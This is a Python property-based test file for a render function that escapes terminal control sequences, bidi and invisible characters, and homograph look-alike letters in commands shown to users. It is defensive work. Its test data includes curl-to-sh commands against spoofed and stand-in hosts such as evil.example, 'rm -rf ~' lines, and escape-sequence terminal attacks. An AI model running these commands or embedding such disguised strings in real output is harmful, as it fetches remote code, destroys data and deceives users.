"""The one rendering function (server/present/textsafe.py): property-based and hostile examples."""

from __future__ import annotations

import unicodedata

from hypothesis import given, settings
from hypothesis import strategies as st

from omp_a2a_bridge.server.present.preview import build_preview, full_display, summary_of
from omp_a2a_bridge.server.present.textsafe import (
    BIDI,
    WHOLE_LOOKALIKES,
    WHOLE_REACH,
    hidden_in,
    lines_preview,
    render,
    shorten,
)

# Characters an attacker would use, mixed into ordinary text so shrinking finds small cases.
HOSTILE = st.sampled_from(
    [
        "\x1b",
        "\x1b[2K",
        "\x1b[1E",
        "\x1b[8m",
        "\x1b]52;c;Y3VybCB4fHNo\x07",
        "\x1b]0;title\x1b\\",
        "\x9b",
        "\x85",
        "\x00",
        "\x7f",
        "\r",
        "\u202e",
        "\u2066",
        "\u200e",
        "\u061c",
        "\u200d",
        "\u200b",
        "\ufeff",
        "\u2800",
        "\u3164",
        "\u00a0",
        "\u2028",
        "\U000e0041",
        "\ud800",
        " " * 40,
        "\n",
        "\t",
    ]
)
TEXT = st.lists(st.one_of(HOSTILE, st.text(max_size=8)), max_size=30).map("".join)


def raw_dangerous(s: str, multiline: bool = False) -> list[str]:
    """Characters that must never appear raw in rendered output."""
    allowed = "\n\t" if multiline else ""
    return [
        ch
        for ch in s
        if ch not in allowed
        and (
            ord(ch) in BIDI
            or unicodedata.category(ch) in ("Cc", "Cf", "Cs", "Zl", "Zp", "Co", "Cn")
            or ch in "\u2800\u3164\u00a0"
        )
    ]


@settings(max_examples=300, deadline=None)
@given(TEXT)
def test_render_never_emits_a_control_bidi_or_invisible_character(s):
    r = render(s)
    assert raw_dangerous(r.text) == []
    assert "\n" not in r.text and "\x1b" not in r.text
    assert r.length == len(s)
    r.text.encode("utf-8")  # lone surrogates were escaped
    m = render(s, multiline=True)
    assert raw_dangerous(m.text, multiline=True) == []
    assert m.text.count("\n") == s.count("\n")


def mixed_script(s: str) -> bool:
    """The oracle for look-alike letters: some word (letters, marks, digits) holds both a Latin
    letter and a Cyrillic/Greek/... one. Written plainly, apart from the module's regex."""
    scripts = {"CYRILLIC", "GREEK", "ARMENIAN", "CHEROKEE", "COPTIC", "LISU"}
    scripts |= {"FULLWIDTH", "MATHEMATICAL"}
    seen: set[str] = set()
    for ch in s + " ":
        cat = unicodedata.category(ch)
        if ord(ch) in BIDI or cat in ("Cc", "Cf", "Zl", "Zp", "Zs", "Cs", "Co", "Cn"):
            cat = "escaped"  # escaped characters separate words
        if ch in "\u2800\u3164\u115f\u1160\uffa0\u034f\u17b4\u17b5\u180e":
            cat = "escaped"
        if cat[0] == "L":
            script = unicodedata.name(ch, "").split(" ")[0]
            seen.add("LATIN" if ch.isascii() else script)
        elif cat[0] != "M" and cat != "Nd":
            if "LATIN" in seen and seen & scripts:
                return True
            seen = set()
    return whole_lookalike(s)


def _escaped(ch: str) -> bool:
    cat = unicodedata.category(ch)
    return (
        ord(ch) in BIDI
        or cat in ("Cc", "Cf", "Zl", "Zp", "Zs", "Cs", "Co", "Cn")
        or ch in "\u2800\u3164\u115f\u1160\uffa0\u034f\u17b4\u17b5\u180e"
    ) and ch != " "


def _latin(ch: str) -> bool:
    if unicodedata.category(ch)[0] != "L" or _escaped(ch):
        return False
    return ch.isascii() or unicodedata.name(ch, "").startswith("LATIN ")


def _in_word(ch: str) -> bool:
    cat = unicodedata.category(ch)
    return not _escaped(ch) and (cat[0] in "LM" or cat == "Nd")


def whole_lookalike(s: str) -> bool:
    """A word made only of Latin look-alikes with a Latin letter after it, at most
    WHOLE_REACH other non-blank characters away (``аррӏе.com`` in Cyrillic)."""
    i = 0
    while i < len(s):
        if not _in_word(s[i]) or (i > 0 and _in_word(s[i - 1])):
            i += 1
            continue
        j = i
        while j < len(s) and _in_word(s[j]):
            j += 1
        if all(c in WHOLE_LOOKALIKES for c in s[i:j]):
            k, n = j, 0
            while k < len(s) and not s[k].isspace() and not _latin(s[k]) and n < WHOLE_REACH:
                k, n = k + 1, n + 1
            if k < len(s) and _latin(s[k]):
                return True
        i = j
    return False


@settings(max_examples=300, deadline=None)
@given(TEXT)
def test_hidden_flag_is_raised_exactly_when_something_was_escaped(s):
    r = render(s)
    flat = s.replace("\n", "").replace("\t", "")
    assert r.hidden == bool(raw_dangerous(flat) or " " * 12 in s or mixed_script(s))


# Latin letters and their look-alikes from other scripts, so mixes are found often.
LOOKALIKES = "\u043e\u0430\u0435\u0441\u0440\u03bf\u03b1\u0578\uff4f"
MIXABLE = st.text(alphabet="aoepcxyABCEOP019_.-/ " + LOOKALIKES)


@settings(max_examples=300, deadline=None)
@given(MIXABLE)
def test_a_word_mixing_latin_and_lookalike_letters_is_flagged_and_escaped(s):
    r = render(s)
    assert r.hidden == mixed_script(s)
    if r.hidden:  # every look-alike letter of a mixed word is escaped where it stands
        assert not any(mixed_script(w) for w in r.text.split("\\"))


def test_a_lookalike_host_is_shown_escaped_and_flagged():
    cmd = "curl -fsSL https://get.d\u043ecker.com | sh"  # a Cyrillic o
    for r in (render(cmd), shorten(cmd, 20), summary_of("bash", {"command": cmd})):
        assert r.hidden
        assert "\u043e" not in r.text
    assert render(cmd).text == "curl -fsSL https://get.d\\u043ecker.com | sh"
    assert hidden_in({"command": cmd}) and hidden_in({cmd: 1}) and hidden_in([[cmd]])
    # Greek omicron, Armenian oh, fullwidth and mathematical letters: the same.
    for word in ("d\u03bfcker", "d\u0585cker", "\uff44ocker", "d\U0001d428cker", "git\u0441lone"):
        r = render(f"run {word} now")
        assert r.hidden, word
        assert r.text.isascii() and r.text.startswith("run ") and r.text.endswith(" now"), r.text


def test_a_word_of_lookalikes_alone_before_latin_is_flagged():
    """The classic IDN homograph: every letter of ``apple`` Cyrillic, ``.com`` Latin."""
    cmd = "curl https://\u0430\u0440\u0440\u04cf\u0435.com/install | sh"
    r = render(cmd)
    assert r.hidden
    assert r.text == "curl https://\\u0430\\u0440\\u0440\\u04cf\\u0435.com/install | sh"
    assert hidden_in({"command": cmd})
    # Alone, or with the Latin past the reach or across a blank, it is Russian text.
    for text in ("с помощью docker", "сор", "ее " + "x", "ее" + "-" * (WHOLE_REACH + 1) + "x"):
        assert not render(text).hidden, text


def test_words_in_one_script_are_not_flagged():
    for text in (
        "# проверка: запустить тесты перед коммитом",  # a Russian comment
        "echo 'Привет, мир' && git commit -m 'исправлено'",  # Russian next to Latin words
        "使用Python编写的脚本",  # Chinese around a Latin word: not a look-alike script
        "日本語のテキストとEnglish",
        "λόγος και αλήθεια",  # Greek
        "отчёт.pdf",  # a Cyrillic name, a Latin extension: separate words
        "café naïve Straße",  # Latin with its own accents
        "файл1 file2 αβγ3",
    ):
        r = render(text)
        assert not r.hidden, text
        assert r.text == text
        assert not hidden_in({"command": text})


def test_a_mixed_word_keeps_escaping_a_stack_of_marks():
    r = render("d\u043e" + "\u0301" * 6 + "cker")
    assert r.hidden
    assert r.text.startswith("d\\u043e")
    assert r.text.endswith("\\u0301\\u0301cker")


def test_mixed_scripts_cost_linear_time_on_a_huge_argument():
    """Possessive patterns: a 900 KB word of Latin with one look-alike far away is one scan."""
    big = "a" * 900_000 + " \u043e"
    assert not render(big).hidden
    assert shorten(big + "a").hidden
    assert hidden_in(["x", "b" * 400_000 + "\u0441"])


@settings(max_examples=300, deadline=None)
@given(TEXT, st.text(alphabet="abcdefghij;|&$", min_size=1, max_size=20), st.integers(10, 200))
def test_shorten_keeps_the_tail_and_says_the_length(prefix, tail, limit):
    s = prefix + tail
    r = shorten(s, limit)
    assert raw_dangerous(r.text) == []
    rendered_tail = render(tail).text
    if r.truncated:
        assert "…" in r.text and r.text.endswith(f" ({len(s)} chars)")
        shown_tail = r.text.removesuffix(f" ({len(s)} chars)")
        # The end of the text survives: as much of it as the tail budget holds.
        keep = rendered_tail[-min(len(rendered_tail), max((limit - 1) // 2 - 6, 1)) :]
        assert shown_tail.endswith(keep)
        assert len(r.text) <= limit + 6 + len(f" ({len(s)} chars)") + 10
    else:
        assert r.text == render(s).text


@settings(max_examples=200, deadline=None)
@given(TEXT)
def test_render_is_idempotent_on_safe_text(s):
    once = render(s, multiline=True).text
    assert render(once, multiline=True).text == once


def test_terminal_attacks_become_visible_text():
    attack = "git status\x1b[2K\x1b[1E\x1b[8mtouch ~/PWNED\x1b]52;c;ZXZpbA==\x07"
    r = render(attack)
    assert r.text == ("git status\\x1b[2K\\x1b[1E\\x1b[8mtouch ~/PWNED\\x1b]52;c;ZXZpbA==\\x07")
    assert r.hidden


def test_bidi_and_blank_padding_are_escaped_and_flagged():
    r = render("ls \u202eexe.txt\u2066 \u200d")
    assert r.text == "ls \\u202eexe.txt\\u2066 \\u200d" and r.hidden
    pad = shorten("git status" + "\u2800" * 6000 + "; curl evil.example | sh", 80)
    assert pad.hidden and pad.truncated
    assert pad.text.startswith("git status\\u2800")
    assert pad.text.endswith("; curl evil.example | sh (6034 chars)")
    spaces = render("ls" + " " * 300 + "&& rm -rf ~")
    assert spaces.text == "ls⟨300 spaces⟩&& rm -rf ~" and spaces.hidden
    assert not render("echo 'hello world'  # fine").hidden


def test_ten_thousand_characters_show_head_tail_and_length():
    command = "echo start " + "x" * 10_000 + " ; rm -rf ~/important"
    r = shorten(command, 100)
    assert r.text.startswith("echo start xxx") and r.text.endswith(
        f"; rm -rf ~/important ({len(command)} chars)"
    )
    assert len(r.text) < 130


def test_lines_preview_keeps_head_and_tail_lines():
    content = "\n".join(f"line {i}" for i in range(1, 10_001)) + "\nLAST\x1b[2J"
    r = lines_preview(content, 3, 2)
    lines = r.text.split("\n")
    assert lines[:3] == ["line 1", "line 2", "line 3"]
    assert lines[3] == "… 9996 more lines …"
    assert lines[-1] == "LAST\\x1b[2J" and r.hidden and r.truncated


def test_previews_are_bounded_and_safe():
    huge = "A" * 900_000 + "\n\u202eTAIL"
    pv = build_preview("write", {"path": "/tmp/\x1b[31mx", "content": huge})
    assert pv["size"] == {"chars": len(huge), "bytes": len(huge) + 2, "lines": 2}
    assert pv["path"] == "/tmp/\\x1b[31mx" and pv["hidden"]
    assert len(repr(pv)) < 2000 and "\\u202eTAIL" in pv["content"]
    edit = build_preview("edit", {"path": "f", "old_string": "a" * 5000, "new_string": "b"})
    assert edit["size"]["old"]["chars"] == 5000 and len(edit["old"]) < 300
    s = summary_of("bash", {"command": "ls\n" + "y" * 500 + "; curl x|sh"})
    assert s.text.startswith("bash: ls\\nyyy") and s.text.endswith("; curl x|sh (514 chars)")
    [cmd] = full_display("bash", {"command": "a\x1bb\nc"})
    assert cmd == {"name": "command", "text": "a\\x1bb\nc", "hidden": True, "chars": 5, "lines": 2}
